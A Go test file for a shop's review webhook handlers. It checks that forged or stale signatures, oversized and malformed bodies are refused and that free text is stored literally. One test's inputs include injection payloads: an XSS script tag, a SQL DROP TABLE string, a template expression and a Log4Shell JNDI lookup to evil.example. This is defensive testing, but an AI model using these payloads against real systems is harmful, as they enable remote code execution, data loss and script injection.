package main

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/tsunagu-dev/tsunagu/infra/testkit/testenv"
	"github.com/tsunagu-dev/tsunagu/shared/review"
	"github.com/tsunagu-dev/tsunagu/shared/signature"
)

// TestGenericReviewsRefuseHostileInput: POST /webhooks/reviews. Each
// request is refused with its status, a JSON answer, and nothing written.
func TestGenericReviewsRefuseHostileInput(t *testing.T) {
	f := newFixture(t)
	f.order(t, "1001", "c-1", "SWEET-YOKAN")
	valid := reviewBody("r-1", "1001", "SWEET-YOKAN", 5, true, "")
	sig := signature.SignTsunagu(secret, now, []byte(valid))
	_, v1, _ := strings.Cut(sig, ",")
	ts := fmt.Sprint(now.Unix())
	withSig := func(v string) events.APIGatewayV2HTTPRequest {
		return testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", v)
	}
	body := func(b string) testenv.Refused { return testenv.Refused{Req: genericRequest(b), Status: 400} }
	with := func(extra string) string { return reviewBody("r-h", "1001", "SWEET-YOKAN", 5, true, extra) }
	rows := []testenv.Refused{
		{Name: "no signature", Req: withSig(""), Status: 401},
		{Name: "blank signature", Req: withSig(" "), Status: 401},
		{Name: "garbage signature", Req: withSig("hello"), Status: 401},
		{Name: "timestamp only", Req: withSig("t=" + ts), Status: 401},
		{Name: "mac only", Req: withSig(v1), Status: 401},
		{Name: "mac not hex", Req: withSig("t=" + ts + ",v1=" + strings.Repeat("zz", 32)), Status: 401},
		{Name: "mac truncated", Req: withSig(sig[:len(sig)-2]), Status: 401},
		{Name: "mac of zeros", Req: withSig("t=" + ts + ",v1=" + strings.Repeat("0", 64)), Status: 401},
		{Name: "wrong secret", Req: withSig(signature.SignTsunagu("not-the-secret", now, []byte(valid))), Status: 401},
		{Name: "Judge.me's secret", Req: withSig(signature.SignTsunagu(judgemeSecret, now, []byte(valid))), Status: 401},
		{Name: "stale by six minutes", Req: withSig(signature.SignTsunagu(secret, now.Add(-6*time.Minute), []byte(valid))), Status: 401},
		{Name: "from the future", Req: withSig(signature.SignTsunagu(secret, now.Add(6*time.Minute), []byte(valid))), Status: 401},
		{Name: "timestamp overflows", Req: withSig("t=99999999999999999999," + v1), Status: 401},
		{Name: "timestamp moved, mac kept", Req: withSig("t=" + fmt.Sprint(now.Unix()-1) + "," + v1), Status: 401},
		{Name: "mac of the body with a newline", Req: withSig(signature.SignTsunagu(secret, now, []byte(valid+"\n"))), Status: 401},
		{Name: "Judge.me's header instead", Req: testenv.WithHeader(withSig(""), "judgeme-hmac-sha256", signature.SignJudgeme(secret, []byte(valid))), Status: 401},
		{Name: "body over 256 KiB", Req: genericRequest(with(`,"pad":"` + strings.Repeat("x", 256<<10) + `"`)), Status: 413},
		{Name: "base64 that is not", Req: func() events.APIGatewayV2HTTPRequest { r := genericRequest(valid); r.IsBase64Encoded = true; return r }(), Status: 400},
		{Name: "text of 5,001 characters", Req: genericRequest(with(`,"text":"` + strings.Repeat("あ", 5001) + `"`)), Status: 400},
	}
	for _, b := range hostileBodies(valid) {
		r := body(b.body)
		r.Name = "body: " + b.name
		rows = append(rows, r)
	}
	testenv.ExpectNoEffect(t, f.table, f.h.Handle, rows, testenv.JSONAnswer, nil)
}

// TestJudgemeReviewsRefuseHostileInput: POST /webhooks/reviews/judgeme.
// The generic route's bad bodies, signed as Judge.me signs, are refused
// too (none is a Judge.me review), with Judge.me's own mistakes.
func TestJudgemeReviewsRefuseHostileInput(t *testing.T) {
	f := newFixture(t)
	jm := func(review string) string {
		return `{"event":"review/created","shop_domain":"tsubaki.myshopify.com","review":{"id":1,"rating":5,"product_external_id":99,"created_at":"2026-11-28T00:00:00Z"` + review + `}}`
	}
	valid := jm("")
	withSig := func(v string) events.APIGatewayV2HTTPRequest {
		return testenv.WithHeader(judgemeRequest(valid), "judgeme-hmac-sha256", v)
	}
	good := signature.SignJudgeme(judgemeSecret, []byte(valid))
	rows := []testenv.Refused{
		{Name: "no signature", Req: withSig(""), Status: 401},
		{Name: "blank signature", Req: withSig(" "), Status: 401},
		{Name: "base64, as Shopify signs", Req: withSig(signature.SignShopify(judgemeSecret, []byte(valid))), Status: 401},
		{Name: "truncated", Req: withSig(good[:62]), Status: 401},
		{Name: "one digit changed", Req: withSig(map[bool]string{true: "1", false: "0"}[good[0] == '0'] + good[1:]), Status: 401},
		{Name: "zeros", Req: withSig(strings.Repeat("0", 64)), Status: 401},
		{Name: "another secret", Req: withSig(signature.SignJudgeme(secret, []byte(valid))), Status: 401},
		{Name: "another body's", Req: withSig(signature.SignJudgeme(judgemeSecret, []byte(jm(`,"title":"x"`)))), Status: 401},
		{Name: "the shop's signature", Req: testenv.WithHeader(withSig(""), "x-tsunagu-signature", signature.SignTsunagu(judgemeSecret, now, []byte(valid))), Status: 401},
		{Name: "sha256= prefix", Req: withSig("sha256=" + good), Status: 401},
		{Name: "over 256 KiB", Req: judgemeRequest(jm(`,"pad":"` + strings.Repeat("x", 256<<10) + `"`)), Status: 413},
	}
	for _, b := range append(hostileBodies(reviewBody("r-h", "1001", "SWEET-YOKAN", 5, true, "")), []struct{ name, body string }{
		{"a question, not a review", strings.Replace(valid, "review/created", "question/created", 1)},
		{"no event", `{"review":{}}`}, {"review a list", `{"event":"review/created","review":[]}`},
		{"id missing", strings.Replace(valid, `"id":1,`, "", 1)}, {"id 1.5", strings.Replace(valid, `"id":1,`, `"id":1.5,`, 1)},
		{"id true", strings.Replace(valid, `"id":1,`, `"id":true,`, 1)}, {"rating 0", strings.Replace(valid, `"rating":5`, `"rating":0`, 1)},
		{"product id negative", strings.Replace(valid, `:99,`, `:-99,`, 1)}, {"created_at missing", strings.Replace(valid, `,"created_at":"2026-11-28T00:00:00Z"`, "", 1)},
		{"body of 5,001 characters", jm(`,"body":"` + strings.Repeat("本", 5001) + `"`)},
		{"title of 201 characters", jm(`,"title":"` + strings.Repeat("題", 201) + `"`)},
		{"reviewer name of 101 characters", jm(`,"reviewer":{"name":"` + strings.Repeat("名", 101) + `"}`)},
		{"reviewer external_id an object", jm(`,"reviewer":{"external_id":{}}`)},
	}...) {
		rows = append(rows, testenv.Refused{Name: "body: " + b.name, Req: judgemeRequest(b.body), Status: 400})
	}
	testenv.ExpectNoEffect(t, f.table, f.h.Handle, rows, testenv.JSONAnswer, nil)
}

// TestReviewTextStoredAsSent: injection strings in free text are
// accepted and kept as text, with their line breaks, never interpreted.
func TestReviewTextStoredAsSent(t *testing.T) {
	f := newFixture(t)
	for i, s := range []string{`<script>alert(1)</script>`, `'; DROP TABLE reviews; --`, `{{.Shop.Name}}`, `${jndi:ldap://evil.example/a}`, "1行目\n2行目", "\u202e逆"} {
		body := reviewBody(fmt.Sprintf("r-%d", i), "1001", "SWEET-YOKAN", 3, true, fmt.Sprintf(`,"text":%q,"title":%q`, s, s))
		status, got := call(t, f.h, genericRequest(body))
		if status != 200 || got.Duplicate {
			t.Fatalf("%q: %d %+v", s, status, got)
		}
		back, err := f.st.SaveReview(context.Background(), mustDecode(t, body), now)
		if err != nil || !back.Done {
			t.Fatalf("%q: read back %+v %v", s, back, err)
		}
		stored := back.Review
		wantText := strings.ReplaceAll(s, "\u202e", "")
		wantTitle := strings.ReplaceAll(strings.ReplaceAll(s, "\u202e", " "), "\n", " ")
		if stored.Text != wantText || strings.TrimSpace(stored.Title) != strings.TrimSpace(wantTitle) {
			t.Errorf("%q stored as text %q, title %q", s, stored.Text, stored.Title)
		}
	}
}

func mustDecode(t *testing.T, body string) review.Review {
	t.Helper()
	r, err := review.DecodeGeneric([]byte(body), now)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// hostileBodies are bodies the shop's route refuses with 400, valid one
// of its bodies with a field changed.
func hostileBodies(valid string) []struct{ name, body string } {
	with := func(extra string) string { return strings.TrimSuffix(valid, "}") + extra + "}" }
	return []struct{ name, body string }{
		{"empty", ``}, {"whitespace", " \n"}, {"null", `null`}, {"array", `[]`}, {"string", `"review"`}, {"number", `5`},
		{"truncated", valid[:len(valid)/2]}, {"two objects", valid + valid}, {"not UTF-8", "{\"id\":\"r-\xff\"}"},
		{"deeply nested", testenv.NestedJSON(10000)},
		{"rating 0", with(`,"rating":0`)}, {"rating 6", with(`,"rating":6`)}, {"rating -1", with(`,"rating":-1`)},
		{"rating 4.5", with(`,"rating":4.5`)}, {"rating huge", with(`,"rating":1e400`)}, {"rating as a string", with(`,"rating":"5"`)},
		{"rating null", with(`,"rating":null`)}, {"verified as a string", with(`,"verified":"true"`)}, {"published as 1", with(`,"published":1`)},
		{"id a number", with(`,"id":12`)}, {"id blank", with(`,"id":"  "`)}, {"id with NUL", with(`,"id":"r\u0000"`)},
		{"id of 201 characters", with(`,"id":"` + strings.Repeat("r", 201) + `"`)}, {"sku an object", with(`,"sku":{}`)},
		{"order_id empty", with(`,"order_id":""`)}, {"customer_id a list", with(`,"customer_id":["c-1"]`)},
		{"title of 201 characters", with(`,"title":"` + strings.Repeat("題", 201) + `"`)},
		{"author of 101 characters", with(`,"author":"` + strings.Repeat("名", 101) + `"`)},
		{"text a number", with(`,"text":5`)}, {"created_at not a time", with(`,"created_at":"yesterday"`)},
		{"created_at in year 10000", with(`,"created_at":"10000-01-01T00:00:00Z"`)},
		{"keys in capitals only", `{"ID":"r","ORDER_ID":"1001","SKU":"S","RATING":5,"VERIFIED":true,"PUBLISHED":true}`},
	}
}
